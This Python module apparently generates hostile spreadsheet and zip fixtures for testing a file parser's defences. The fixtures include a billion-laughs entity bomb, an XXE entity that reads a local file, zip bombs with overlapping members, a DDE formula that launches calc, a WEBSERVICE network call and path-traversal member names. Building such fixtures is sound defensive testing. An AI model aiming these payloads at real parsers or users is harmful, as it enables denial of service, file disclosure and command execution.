"""Make files that mean harm: each is small, and asks its reader for far more than it has."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
ROWS = (
    '<row r="1"><c r="A1" t="inlineStr"><is><t>person</t></is></c>'
    '<c r="B1" t="inlineStr"><is><t>hours</t></is></c></row>'
    '<row r="2"><c r="A2" t="inlineStr"><is><t>p1</t></is></c><c r="B2"><v>20</v></c></row>'
    '<row r="3"><c r="A3" t="inlineStr"><is><t>p2</t></is></c><c r="B3"><v>30</v></c></row>'
)


def sheet(rows: str = ROWS, before: str = "", after: str = "", doctype: str = "") -> str:
    """Write a sheet's XML."""
    return (
        f'<?xml version="1.0"?>{doctype}<worksheet xmlns="{_MAIN}" xmlns:r="{_OFFICE}">'
        f"{before}<sheetData>{rows}</sheetData>{after}</worksheet>"
    )


def workbook(page: str, strings: str = "", more: dict[str, bytes] | None = None) -> bytes:
    """Pack a sheet as .xlsx, with members of one's own."""
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{_PACKAGE}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Override PartName="/xl/workbook.xml" '
        f'ContentType="{_TYPE}.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" '
        f'ContentType="{_TYPE}.worksheet+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="rId1" '
        f'Type="{_OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{_MAIN}" xmlns:r="{_OFFICE}"><sheets>'
        '<sheet name="People" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{_PACKAGE}/relationships">'
        f'<Relationship Id="rId1" Type="{_OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="rId2" Type="{_OFFICE}/sharedStrings" Target="sharedStrings.xml"/>'
        "</Relationships>",
        "xl/worksheets/sheet1.xml": page,
    }
    if strings:
        parts["xl/sharedStrings.xml"] = strings
    return packed({name: text.encode() for name, text in parts.items()} | (more or {}))


def packed(parts: dict[str, bytes]) -> bytes:
    """Pack members as a zip."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return made.getvalue()


def far_cell(place: str = "XFD1048576") -> bytes:
    """Two tables' worth of nothing between the first cell and the last."""
    row = "".join(sign for sign in place if sign.isdigit())
    return workbook(sheet(f'{ROWS}<row r="{row}"><c r="{place}"><v>1</v></c></row>'))


def many_columns() -> bytes:
    """As many columns as a sheet can have, each with a heading and a number."""
    names = [_letters(n) for n in range(1, 16385)]
    top = "".join(f'<c r="{n}1" t="inlineStr"><is><t>h{n}</t></is></c>' for n in names)
    low = "".join(f'<c r="{n}2"><v>{k}</v></c>' for k, n in enumerate(names))
    return workbook(sheet(f'<row r="1">{top}</row><row r="2">{low}</row>'))


def many_spans() -> bytes:
    """Merged ranges over the whole sheet, thousands of times."""
    spans = '<mergeCell ref="A1:XFD1048576"/>' * 50_000
    return workbook(sheet(after=f'<mergeCells count="50000">{spans}</mergeCells>'))


def laughs() -> bytes:
    """Entities that are made of entities."""
    entities = "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' if n else '<!ENTITY a0 "ha">' for n in range(10)
    )
    page = sheet(ROWS.replace("p1", "&a9;"), doctype=f"<!DOCTYPE x [{entities}]>")
    return workbook(page)


def outside(secret: Path) -> bytes:
    """Ask for a file of this computer as an entity."""
    doctype = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{secret.as_uri()}">]>'
    return workbook(sheet(ROWS.replace("p1", "&e;"), doctype=doctype))


def boast() -> bytes:
    """Announce four thousand million texts."""
    return workbook(sheet(), f'<sst xmlns="{_MAIN}" count="4294967295" uniqueCount="4294967295"/>')


def bomb() -> bytes:
    """One member of half a gigabyte of the same letter."""
    return workbook(sheet(), more={"xl/media/a.xml": b"a" * (1 << 29)})


def overlapping(times: int = 2000) -> bytes:
    """Many members that share one body: the list of them is all there is."""
    body = packed({"xl/workbook.xml": b"0" * (1 << 21)})
    listed = body.rfind(b"PK\x01\x02")
    end = body.rfind(b"PK\x05\x06")
    entry = body[listed:end] * times
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, times, times, len(entry), listed, 0)
    return body[:listed] + entry + tail


def tiny_members(times: int = 30_000) -> bytes:
    """Tens of thousands of members of no size."""
    return packed({f"m{n}": b"" for n in range(times)})


def commanding() -> bytes:
    """Formulas that would call programs or the network, links, a macro, odd names of members."""
    formulas = "".join(
        f'<row r="{n}"><c r="A{n}" t="str"><f>{formula}</f><v>p{n}</v></c><c r="B{n}"><v>1</v></c>'
        "</row>"
        for n, formula in enumerate(
            ("cmd|'/c calc'!A0", 'WEBSERVICE("http://192.0.2.1/")', "[1]Sheet1!A1"), 4
        )
    )
    return workbook(
        sheet(ROWS + formulas),
        more={
            "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro",
            "xl/connections.xml": b'<connections><connection id="1"/></connections>',
            "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
            "../../../escaped.txt": b"out",
            "/escaped.txt": b"out",
        },
    )


def sheet_of_clouds() -> bytes:
    """An OpenDocument sheet that repeats one cell without end."""
    office = "urn:oasis:names:tc:opendocument:xmlns:"
    return packed(
        {
            "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
            "content.xml": (
                f'<office:document-content xmlns:office="{office}office:1.0" '
                f'xmlns:table="{office}table:1.0" xmlns:text="{office}text:1.0"><office:body>'
                '<office:spreadsheet><table:table table:name="S">'
                '<table:table-row table:number-rows-repeated="1048576">'
                '<table:table-cell table:number-columns-repeated="16384" '
                'office:value-type="string"><text:p>X</text:p></table:table-cell>'
                "</table:table-row></table:table></office:spreadsheet></office:body>"
                "</office:document-content>"
            ).encode(),
        }
    )


def statistics(good: bytes, at: int, value: int, width: int = 4) -> bytes:
    """A statistics file whose header says another number."""
    return good[:at] + value.to_bytes(width, "little") + good[at + width :]


def _letters(number: int) -> str:
    name = ""
    while number:
        number, rest = divmod(number - 1, 26)
        name = chr(65 + rest) + name
    return name


WORKBOOKS: dict[str, Callable[[], bytes]] = {
    "far_cell": far_cell,
    "far_row": lambda: far_cell("Z1048576"),
    "many_columns": many_columns,
    "many_spans": many_spans,
    "laughs": laughs,
    "boast": boast,
    "bomb": bomb,
    "overlapping": overlapping,
    "tiny_members": tiny_members,
    "commanding": commanding,
}
